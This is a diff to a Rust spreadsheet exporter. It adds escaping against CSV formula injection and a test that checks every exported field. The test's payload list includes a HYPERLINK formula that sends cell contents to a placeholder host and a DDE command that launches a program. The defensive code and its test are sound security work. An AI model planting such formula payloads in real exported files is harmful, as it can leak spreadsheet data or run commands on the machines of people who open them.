@@ -5,7 +5,9 @@
 //! line ends and RFC 4180 quoting (a sentence with a comma, a quote or a line break stays
 //! one cell). The same tables (documents, measures, matrix, slogans, figures) are the
 //! sheets of the workbook, so the two never disagree. Measures the user corrected carry
-//! `recategorized` or `added` in the `correction` column. The JSON is the report of
+//! `recategorized` or `added` in the `correction` column. A CSV text cell that starts like a
+//! formula (`=`, `+`, `-`, `@`, tab, carriage return) gets a `'` in front, so that a
+//! spreadsheet shows it as text (the workbook stores every text as a string). The JSON is the report of
 //! `spec/report.md`, indented. Nothing here panics: an XLSX failure is an [`ExportError`].
 
 use rust_xlsxwriter::{Format, Workbook};
@@ -116,10 +118,27 @@ enum Cell {
     Number(f64),
 }
 
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV
+/// injection): `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as a spreadsheet shows it as text: one starting like a formula gets a `'`
+/// in front (titles, names, places and measures come from article content, and a crafted
+/// article must not put `=HYPERLINK(…)` into a researcher's sheet).
+pub fn neutralize(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(FORMULA_START) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
 impl Cell {
+    /// The cell as written in a CSV: text neutralized ([`neutralize`]); numbers, which the
+    /// exporter writes itself, as numbers.
     fn csv(&self) -> String {
         match self {
-            Cell::Text(s) => s.clone(),
+            Cell::Text(s) => neutralize(s).into_owned(),
             Cell::Number(n) => n.to_string(),
         }
     }
@@ -524,6 +543,102 @@ pub(crate) mod tests {
         assert_eq!(&corrected[0][col("category_id")], "fiscal");
         assert_eq!(&corrected[0][col("category_label")], "财税减负");
         assert!(rows.iter().any(|r| r[col("place")].contains('市')));
+    }
+
+    #[test]
+    fn cells_from_article_content_never_start_a_formula() {
+        // Every text field of the export filled with formula starts, as a crafted article
+        // (or its file name) would make them.
+        let attacks = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,1)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let mut documents = Vec::new();
+        for (i, attack) in attacks.iter().enumerate() {
+            let mut doc = tiny_doc(
+                &format!("d{}", i + 1),
+                &format!("{attack}推动企业复工复产。"),
+            );
+            doc.name = format!("{attack}.txt");
+            doc.meta.title = Some(attack.to_string());
+            doc.meta.place = Some(attack.to_string());
+            doc.meta.places = vec![attack.to_string()];
+            doc.meta.source = Some(attack.to_string());
+            doc.meta.reporter = Some(attack.to_string());
+            doc.warnings = vec![attack.to_string()];
+            let m = &mut doc.measures[0];
+            m.text = attack.to_string();
+            m.sentence = attack.to_string();
+            m.slogans = vec![attack.to_string()];
+            m.deadline = Some(attack.to_string());
+            m.actors = vec![attack.to_string()];
+            m.figures = vec![crate::model::Figure {
+                value: -3.0,
+                unit: attack.to_string(),
+                text: attack.to_string(),
+                qualifier: Some(attack.to_string()),
+                subject: Some(attack.to_string()),
+                start: 0,
+                end: 1,
+            }];
+            doc.figures = m.figures.clone();
+            doc.slogans = vec![crate::model::Slogan {
+                text: attack.to_string(),
+                count: None,
+                items: vec![attack.to_string()],
+                count_mismatch: false,
+                start: 0,
+                end: 1,
+            }];
+            documents.push(doc);
+        }
+        let report = Report {
+            version: 1,
+            taxonomy: crate::taxonomy::Taxonomy::default().entries(),
+            documents,
+            comparison: Default::default(),
+            errors: vec![],
+        };
+        let files = [
+            ("measures", measures_csv(&report, &report.taxonomy)),
+            ("documents", documents_csv(&report)),
+            ("matrix", matrix_csv(&report, &report.taxonomy)),
+            ("slogans", slogans_csv(&report)),
+            ("figures", figures_csv(&report)),
+        ];
+        let mut neutralized = 0;
+        for (name, bytes) in &files {
+            let (header, rows) = read(bytes);
+            assert!(!rows.is_empty(), "{name}");
+            for row in &rows {
+                for (cell, column) in row.iter().zip(&header) {
+                    // What a spreadsheet reads: a cell that starts like a formula must be
+                    // text the exporter wrote itself as a number (the figures' values).
+                    if cell.starts_with(FORMULA_START) {
+                        assert!(
+                            column == "value" && cell.parse::<f64>().is_ok(),
+                            "{name}.{column}: {cell:?}"
+                        );
+                    }
+                    if cell.starts_with('\'') {
+                        neutralized += 1;
+                        assert!(cell[1..].starts_with(FORMULA_START), "{cell:?}");
+                    }
+                }
+            }
+        }
+        assert!(neutralized >= 5 * attacks.len(), "{neutralized}");
+        // Numbers stay numbers: the figure's value is written as -3, and counts as counts.
+        let (header, rows) = read(&files[4].1);
+        let value = header.iter().position(|h| h == "value").unwrap();
+        assert_eq!(&rows[0][value], "-3");
+        // A cell that only contains such a character later is left as written.
+        assert_eq!(neutralize("a=b"), "a=b");
+        assert_eq!(neutralize("=1"), "'=1");
     }
 
     #[test]
